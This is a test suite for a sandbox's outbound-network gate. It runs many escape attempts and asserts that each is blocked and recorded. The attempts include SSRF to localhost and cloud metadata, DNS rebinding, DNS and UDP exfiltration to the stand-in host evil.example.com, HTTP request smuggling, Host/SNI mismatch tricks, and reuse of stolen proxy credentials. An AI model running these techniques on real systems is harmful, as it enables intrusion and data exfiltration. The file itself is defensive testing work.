import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { Machine, type Ended } from '../sandbox/harness.ts';
import { Outside, type Place } from './outside.ts';
import { setting } from './setting.ts';

/**
 * Attempts to reach a place that was not allowed, from a real run with one place that is: `good.example.com`. What stands
 * outside is never reached, and says so by what reached it; each attempt is in the record, or is part of the run's own.
 */

let machine: Machine;
let outside: Outside;
/** Allowed, with TLS and without; refused by a list; a service of this computer's own; a machine in the company's network. */
let good: Place;
let plain: Place;
let evil: Place;
let inside: Place;
const secret = 'the-inside-secret';

const lists = { allow: ['good.example.com', '*.led.example.com', 'ported.example.com:443'], deny: ['**.evil.example.com', 'evil.example.com'] };
const names = {
  'good.example.com': [['203.0.113.1']],
  'evil.example.com': [['203.0.113.2']],
  'ported.example.com': [['203.0.113.3']],
  'loopback.led.example.com': [['127.0.0.1']],
  'mapped.led.example.com': [['::ffff:127.0.0.1']],
  'six.led.example.com': [['::1']],
  'metadata.led.example.com': [['169.254.169.254']],
  'company.led.example.com': [['10.1.2.3']],
  'unique.led.example.com': [['fd00::1']],
  'translated.led.example.com': [['64:ff9b::7f00:1']],
  'rebound.led.example.com': [['203.0.113.1'], ['127.0.0.1']],
};

beforeAll(async () => {
  outside = await Outside.open(names);
  machine = await Machine.make(true, { helperOptions: outside.helperOptions, wayOut: { proxy: null, certificates: [outside.authority.certificate] } });
  good = await outside.serve(['good.example.com', 'evil.example.com', 'rebound.led.example.com']);
  plain = await outside.serve(null);
  evil = await outside.serve(['evil.example.com', 'good.example.com']);
  inside = await outside.serve(null);
  inside.answer = (_request, response) => void response.end(secret);
  good.answer = (request, response) => (request.url === '/led-astray' ? void response.writeHead(302, { location: `http://127.0.0.1:${inside.port}/` }).end() : void response.end('hello'));
}, 60_000);

afterAll(async () => {
  await machine.remove();
  await outside[Symbol.asyncDispose]();
});

beforeEach(async () => {
  await outside.name(names);
  for (const place of [good, plain, evil, inside]) place.seen.length = 0;
});

interface Tried extends Ended {
  /** What the gate and the sandbox wrote down. */
  readonly record: string;
}

async function attempt(script: string, isStrict = false): Promise<Tried> {
  const { world, run } = setting({ hosts: lists, refusesOpaque: isStrict });
  const egress = run();
  const ended = await machine.script(script, { network: egress });
  egress.close();
  const intents = world.events.flatMap((event) => (event.kind === 'intent' ? [`${event.tool} ${event.decision.answer}`] : []));
  return { ...ended, record: [...intents, ...ended.violations].join('\n') };
}

interface Attempt {
  readonly name: string;
  readonly script: () => string;
  /** What shows that it really was attempted, in its output and errors together. */
  readonly shows: RegExp;
  /** What must be written down; without it the run's own record, with its code, is the trace. */
  readonly record?: RegExp;
  readonly isStrict?: true;
}

/** Python with the proxy of the run at hand: `proxy(bytes)` says them to it and gives what it answers. */
const python = (code: string): string => `python3 - <<'CODE'
import base64, os, socket, ssl, struct, sys, urllib.parse
where = urllib.parse.urlsplit(os.environ['HTTPS_PROXY'])
word = base64.b64encode(f'{where.username}:{where.password}'.encode()).decode()
signed = f'Proxy-Authorization: Basic {word}\\r\\n'.encode()
def dial():
    s = socket.create_connection(('127.0.0.1', where.port), 5)
    s.settimeout(6)
    return s
def read(s):
    data = b''
    try:
        while True:
            piece = s.recv(65536)
            if not piece: break
            data += piece
    except OSError as problem:
        data += b' ' + str(problem).encode()
    return data
def proxy(data):
    s = dial()
    s.sendall(data)
    print(read(s).decode('latin1'))
def tunnel(place):
    s = dial()
    s.sendall(f'CONNECT {place} HTTP/1.1\\r\\nHost: {place}\\r\\n'.encode() + signed + b'\\r\\n')
    answer = b''
    while b'\\r\\n\\r\\n' not in answer:
        piece = s.recv(1)
        if not piece: break
        answer += piece
    print(answer.decode('latin1').split('\\r\\n')[0])
    return s
def inside_tls(place, name, data):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    try:
        s = context.wrap_socket(tunnel(place), server_hostname=name)
        s.sendall(data)
        print(read(s).decode('latin1'))
    except OSError as problem:
        print('closed', problem)
def dare(work):
    try:
        work()
        print('ESCAPED')
    except OSError as problem:
        print(problem)
${code}
CODE`;

const fetchInside = (host: string): string => `curl -sS -m 8 --noproxy '' http://${host}:${inside.port}/`;
const viaConnect = (host: string): string => python(`s = tunnel('${host}:${inside.port}')\ns.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')\nprint(read(s).decode('latin1'))`);
const refusedInside = /blocked by network/;
const goodPlace = (): string => `good.example.com:${good.port}`;

const inwards: readonly Attempt[] = [
  { name: 'a service of this computer, straight', script: () => `curl -sS -m 5 --noproxy '*' http://127.0.0.1:${inside.port}/`, shows: /Failed to connect|refused/ },
  ...(
    [
      ['by its address', '127.0.0.1', /127\.0\.0\.1:\d+ deny/],
      ['by its name', 'localhost', /localhost:\d+ deny/],
      ['by a name below that', 'x.localhost', /x\.localhost:\d+ deny/],
      ['by another address of it', '127.9.9.9', /127\.9\.9\.9:\d+ deny/],
      ['by IPv6', '[::1]', /\[::1\]:\d+ deny/],
      ['by IPv4 in IPv6', '[::ffff:127.0.0.1]', /127\.0\.0\.1:\d+ deny/],
      ['by IPv4 through a translator', '[64:ff9b::7f00:1]', /64:ff9b::7f00:1\]:\d+ deny/],
      ['by the address that means any', '0.0.0.0', /0\.0\.0\.0:\d+ deny/],
    ] as const
  ).map(([name, host, record]): Attempt => ({ name: `a service of this computer, ${name}`, script: () => fetchInside(host), shows: refusedInside, record })),
  ...(
    [
      ['a whole number', '2130706433'],
      ['octal', '0177.0.0.1'],
      ['hexadecimal', '0x7f000001'],
      ['parts left out', '127.1'],
      ['a dot at the end', '127.0.0.1.'],
    ] as const
  ).map(([name, host]): Attempt => ({ name: `an address written with ${name}`, script: () => viaConnect(host), shows: /403/, record: /127\.0\.0\.1:\d+ deny/ })),
  { name: 'what clouds tell their machines', script: () => "curl -sS -m 5 --noproxy '' http://169.254.169.254/latest/meta-data/; curl -sS -m 5 http://metadata.google.internal/", shows: refusedInside, record: /169\.254\.169\.254:80 deny[\s\S]*metadata\.google\.internal:80 deny/ },
  { name: 'what clouds tell their machines, straight', script: () => "curl -sS -m 3 --noproxy '*' http://169.254.169.254/; curl -sS -m 3 --noproxy '*' http://[fd00:ec2::254]/", shows: /Failed to connect|unreachable|Could.?n.t connect/i },
  { name: 'the company’s network', script: () => fetchInside('10.1.2.3'), shows: refusedInside, record: /10\.1\.2\.3:\d+ deny/ },
  { name: 'the company’s network by IPv6', script: () => fetchInside('[fd00::1]'), shows: refusedInside, record: /fd00::1\]:\d+ deny/ },
  ...['loopback', 'mapped', 'six', 'metadata', 'company', 'unique', 'translated'].map(
    (name): Attempt => ({
      name: `an allowed name that leads inside (${name})`,
      script: () => `curl -sS -m 8 http://${name}.led.example.com:${inside.port}/; curl -sS -m 8 -k https://${name}.led.example.com:${inside.port}/; ${viaConnect(`${name}.led.example.com`)}`,
      shows: /resolved to/,
      record: new RegExp(`deny network-outbound ${name}\\.led\\.example\\.com:\\d+ \\(resolved to`),
    }),
  ),
  {
    name: 'a name that leads inside the second time',
    script: () => `curl -sS -m 8 https://rebound.led.example.com:${good.port}/; curl -sS -m 8 http://rebound.led.example.com:${inside.port}/`,
    shows: /hello[\s\S]*resolved to a loopback address/,
    record: /rebound\.led\.example\.com:\d+ \(resolved to a loopback/,
  },
  { name: 'a redirect that leads inside', script: () => `curl -sS -m 8 -L --noproxy '' https://${goodPlace()}/led-astray`, shows: refusedInside, record: /127\.0\.0\.1:\d+ deny/ },
];

const otherwise: readonly Attempt[] = [
  { name: 'no proxy variables', script: () => `env -u HTTPS_PROXY -u HTTP_PROXY -u ALL_PROXY -u https_proxy -u http_proxy -u all_proxy curl -sS -m 5 https://evil.example.com:${evil.port}/; curl -sS -m 5 --noproxy '*' https://203.0.113.2:${evil.port}/`, shows: /Could not resolve host[\s\S]*(Failed|Could).{0,8} to connect|unreachable/ },
  { name: 'a raw address', script: () => python(`dare(lambda: socket.create_connection(('203.0.113.2', ${evil.port}), 3))\ndare(lambda: socket.create_connection(('2001:db8::1', 443), 3))`), shows: /unreachable[\s\S]*(unreachable|assign)/ },
  { name: 'the resolver', script: () => 'getent hosts evil.example.com && echo ESCAPED; getent ahosts good.example.com && echo ESCAPED; cat /etc/resolv.conf; python3 -c "import socket; socket.getaddrinfo(\'stolen.evil.example.com\', 53); print(\'ESCAPED\')"', shows: /gaierror/ },
  { name: 'DNS over UDP', script: () => python("s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor server in ['8.8.8.8', '127.0.0.53', '203.0.113.2']:\n    dare(lambda: (s.sendto(b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x06stolen\\x04evil\\0\\0\\x01\\0\\x01', (server, 53)), s.settimeout(1), s.recv(99)))"), shows: /unreachable|timed out|refused/ },
  { name: 'DNS by names of a place that is refused', script: () => `for piece in c2VjcmV0 ZGF0YQ; do curl -sS -m 5 https://$piece.evil.example.com/; done`, shows: /403/, record: /c2vjcmv0\.evil\.example\.com:443 deny/ },
  { name: 'UDP', script: () => python("s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)\ndare(lambda: s.sendto(b'stolen', ('2001:db8::1', 443)))\nt = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nt.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)\ndare(lambda: t.sendto(b'stolen', ('255.255.255.255', 9)))\ndare(lambda: t.sendto(b'stolen', ('224.0.0.251', 5353)))"), shows: /unreachable|assign/ },
  { name: 'ICMP', script: () => python("dare(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP).sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', ('203.0.113.2', 0)))\ndare(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))"), shows: /permitted|denied|unreachable/i },
  { name: 'raw and packet sockets', script: () => python('dare(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 255))\ndare(lambda: socket.socket(17, socket.SOCK_RAW, 0x300))\ndare(lambda: socket.socket(17, socket.SOCK_DGRAM, 0x300))'), shows: /not permitted[\s\S]*(permitted|not supported)/ },
  { name: 'the machine that hosts this one, and other kinds of sockets', script: () => python('for family in [40, 38, 31, 44, 30, 21, 29, 15]:\n    dare(lambda: socket.socket(family, socket.SOCK_STREAM))'), shows: /not supported/ },
  { name: 'a network of its own making', script: () => python("import fcntl\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ndare(lambda: fcntl.ioctl(s, 0x8914, struct.pack('16sh14x', b'lo', 0)))\ndare(lambda: os.open('/dev/net/tun', os.O_RDWR))\nn = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)\nn.send(struct.pack('IHHIIBxHiII', 32, 16, 0x605, 1, 0, 0, 0, 0, 0, 0))\nprint(os.strerror(-struct.unpack('i', n.recv(99)[16:20])[0]))"), shows: /not permitted[\s\S]*No such file[\s\S]*not permitted/ },
  { name: 'the proxy without its word', script: () => `curl -sS -m 5 -x http://127.0.0.1:3128 https://${goodPlace()}/; curl -sS -m 5 -x http://srt:guess@127.0.0.1:3128 https://${goodPlace()}/; curl -sS -m 5 -x socks5h://srt:guess@127.0.0.1:1080 https://${goodPlace()}/`, shows: /407[\s\S]*407/ },
];

const smuggled: readonly Attempt[] = [
  { name: 'a name in other letters and with a dot at the end', script: () => `curl -sS -m 5 -k https://EVIL.Example.COM.:${evil.port}/; curl -sS -m 5 http://eVil.example.com.:${evil.port}/`, shows: /403/, record: /evil\.example\.com:\d+ deny/ },
  { name: 'a name in letters that look the same', script: () => `curl -sS -m 5 -k https://ｅvil.example.com:${evil.port}/; ${python(`proxy('CONNECT ｅvil.example.com:${evil.port} HTTP/1.1\\r\\n'.encode() + signed + b'\\r\\n')`)}`, shows: /403|40[03]|resolve/ },
  { name: 'an allowed name before an @', script: () => `curl -sS -m 5 http://good.example.com@evil.example.com:${evil.port}/; ${python(`proxy(b'GET http://good.example.com:80@evil.example.com:${evil.port}/ HTTP/1.1\\r\\nHost: good.example.com\\r\\n' + signed + b'\\r\\n')\nproxy(b'GET http://good.example.com\\\\@evil.example.com:${evil.port}/ HTTP/1.1\\r\\nHost: good.example.com\\r\\n' + signed + b'\\r\\n')`)}`, shows: /403/, record: /evil\.example\.com:\d+ deny/ },
  { name: 'an allowed name before the end of a text', script: () => python(`import struct
for name in [b'evil.example.com\\0.good.example.com', b'evil.example.com\\r\\nX: good.example.com', b'good.example.com%00.evil.example.com']:
    s = dial()
    s.sendall(b'\\x05\\x01\\x02'); s.recv(2)
    user, key = where.username.encode(), where.password.encode()
    s.sendall(b'\\x01' + bytes([len(user)]) + user + bytes([len(key)]) + key); s.recv(2)
    s.sendall(b'\\x05\\x01\\0\\x03' + bytes([len(name)]) + name + struct.pack('>H', ${evil.port}))
    print('answer', s.recv(2).hex())`), shows: /answer 05(?!00)/ },
  { name: 'another port of a place that is allowed on one', script: () => `curl -sS -m 4 -k https://ported.example.com:${evil.port}/`, shows: /timed out|403/, record: /ported\.example\.com:\d+ ask/ },
  { name: 'a header in the line of the tunnel', script: () => python(`proxy(b'CONNECT ${goodPlace()} HTTP/1.1\\r\\nHost: evil.example.com:${evil.port}\\r\\nX-Forwarded-Host: evil.example.com\\r\\n' + signed + b'\\r\\n' + b'GET http://evil.example.com:${evil.port}/ HTTP/1.1\\r\\nHost: evil.example.com:${evil.port}\\r\\n\\r\\n')\nproxy(b'CONNECT evil.example.com:${evil.port} HTTP/1.1\\r\\nHost: ${goodPlace()}\\r\\n' + signed + b'\\r\\n')`), shows: /403/, record: /evil\.example\.com:\d+ deny/ },
  { name: 'a second tunnel inside of the first', script: () => python(`inside_tls('${goodPlace()}', 'good.example.com', b'CONNECT evil.example.com:${evil.port} HTTP/1.1\\r\\nHost: evil.example.com:${evil.port}\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: evil.example.com\\r\\n\\r\\n')`), shows: /200 Connection Established/, record: /good\.example\.com:\d+ allow/ },
  { name: 'another name in TLS than in the tunnel', script: () => python(`inside_tls('${goodPlace()}', 'evil.example.com', b'GET / HTTP/1.1\\r\\nHost: ${goodPlace()}\\r\\nConnection: close\\r\\n\\r\\n')`), shows: /421/, record: /server name does not match/ },
  { name: 'another host in the request than in the tunnel', script: () => python(`inside_tls('${goodPlace()}', 'good.example.com', b'GET / HTTP/1.1\\r\\nHost: evil.example.com\\r\\nConnection: close\\r\\n\\r\\n')\ninside_tls('${goodPlace()}', 'good.example.com', b'GET / HTTP/1.1\\r\\nHost: ${goodPlace()}\\r\\nHost: evil.example.com\\r\\nConnection: close\\r\\n\\r\\n')`), shows: /421[\s\S]*4(?:21|00)/, record: /Host header does not match/ },
  { name: 'another host in the line of the request', script: () => python(`inside_tls('${goodPlace()}', 'good.example.com', b'GET https://evil.example.com/ HTTP/1.1\\r\\nHost: ${goodPlace()}\\r\\nConnection: close\\r\\n\\r\\n')\nproxy(b'GET http://evil.example.com:${evil.port}/ HTTP/1.1\\r\\nHost: ${goodPlace()}\\r\\nConnection: close\\r\\n' + signed + b'\\r\\n')`), shows: /421[\s\S]*403/, record: /authority does not match/ },
  { name: 'a second request behind the first', script: () => python(`proxy(b'GET http://good.example.com:${plain.port}/a HTTP/1.1\\r\\nHost: good.example.com:${plain.port}\\r\\n' + signed + b'\\r\\nGET http://evil.example.com:${evil.port}/ HTTP/1.1\\r\\nHost: evil.example.com:${evil.port}\\r\\nConnection: close\\r\\n' + signed + b'\\r\\n')`), shows: /hello[\s\S]*403/, record: /evil\.example\.com:\d+ deny/ },
  { name: 'two lengths of one request', script: () => python(`proxy(b'POST http://good.example.com:${plain.port}/ HTTP/1.1\\r\\nHost: good.example.com:${plain.port}\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n' + signed + b'\\r\\n0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')`), shows: /400/ },
  { name: 'a request that asks for its own echo', script: () => `curl -sS -m 5 -X TRACE https://${goodPlace()}/; curl -sS -m 5 -X TRACE http://good.example.com:${plain.port}/`, shows: /not forwarded/, record: /TRACE/ },
  { name: 'a socket of the web that nobody looks into', script: () => python(`inside_tls('${goodPlace()}', 'good.example.com', b'GET /socket HTTP/1.1\\r\\nHost: ${goodPlace()}\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n')`), shows: /200 Connection Established/, record: /good\.example\.com:\d+ allow/ },
  { name: 'a tunnel that nobody can look into, under Strict', isStrict: true, script: () => python(`s = tunnel('good.example.com:${plain.port}')\ns.sendall(b'GET /opaque HTTP/1.1\\r\\nHost: good.example.com\\r\\n\\r\\n')\nprint('got', read(s))`), shows: /got b'( .*)?'/, record: /carries no TLS/ },
  { name: 'SOCKS, under Strict', isStrict: true, script: () => `curl -sS -m 5 -k -x socks5h://$(python3 -c "import os, urllib.parse; print(urllib.parse.urlsplit(os.environ['HTTPS_PROXY']).netloc.split('@')[0])")@127.0.0.1:3128 https://${goodPlace()}/opaque`, shows: /SOCKS|socks/i, record: /socks-tunnel good\.example\.com/ },
  { name: 'SOCKS to a place that is refused', script: () => `curl -sS -m 5 -k -x socks5h://$(python3 -c "import os, urllib.parse; print(urllib.parse.urlsplit(os.environ['HTTPS_PROXY']).netloc.split('@')[0])")@127.0.0.1:3128 https://evil.example.com:${evil.port}/`, shows: /SOCKS|socks/i, record: /evil\.example\.com:\d+ deny/ },
];

describe.each([
  ['inwards', inwards],
  ['past the proxy', otherwise],
  ['by words that say one thing and mean another', smuggled],
] as const)('%s', (_kind, attempts) => {
  test.each(attempts.map((one) => [one.name, one] as const))('%s is not reached', async (_name, { script, shows, record, isStrict }) => {
    const ended = await attempt(script(), isStrict);
    const said = ended.output + ended.error;
    expect(said).toMatch(shows);
    expect(said).not.toContain('ESCAPED');
    expect(said).not.toContain(secret);
    if (record !== undefined) expect(ended.record).toMatch(record);
    expect([...evil.seen, ...inside.seen]).toEqual([]);
    for (const { url, headers } of [...good.seen, ...plain.seen]) {
      expect(url).not.toMatch(/smuggled|socket|opaque/);
      expect(headers['proxy-authorization']).toBeUndefined();
    }
    expect(ended.isLost).toBe(false);
  });
});

test('another run’s proxy is not reached, nor is its word good for one’s own', async () => {
  const { run } = setting({ hosts: lists });
  const first = run();
  const other = await machine.start(['/bin/bash', '-c', 'echo "$HTTPS_PROXY"; ls -d /tmp/csr-*/*.sock; sleep 60'], { network: first, readable: [machine.workspace], writable: [] });
  let told = '';
  for await (const chunk of other.output) {
    told += String(chunk);
    if (told.includes('.sock')) break;
  }
  const [address = '', socket = ''] = told.trim().split('\n');
  const stolen = new URL(address);
  const ended = await attempt(`ls ${socket}; ${python(`u = socket.socket(socket.AF_INET)\ndare(lambda: socket.socket(socket.AF_UNIX).connect('${socket}'))`)}\ncurl -sS -m 5 -x http://${stolen.username}:${stolen.password}@127.0.0.1:3128 https://${goodPlace()}/`);
  const said = ended.output + ended.error;
  expect(said).toMatch(/No such file[\s\S]*407/);
  expect(said).not.toContain('ESCAPED');
  expect(good.seen).toEqual([]);
  await other.stop();
  first.close();
});

test('nothing was looked up of a place that is refused', () => {
  expect(outside.lookedUp()).toContain('good.example.com');
  expect(outside.lookedUp().filter((name) => name.toLowerCase().includes('evil'))).toEqual([]);
});
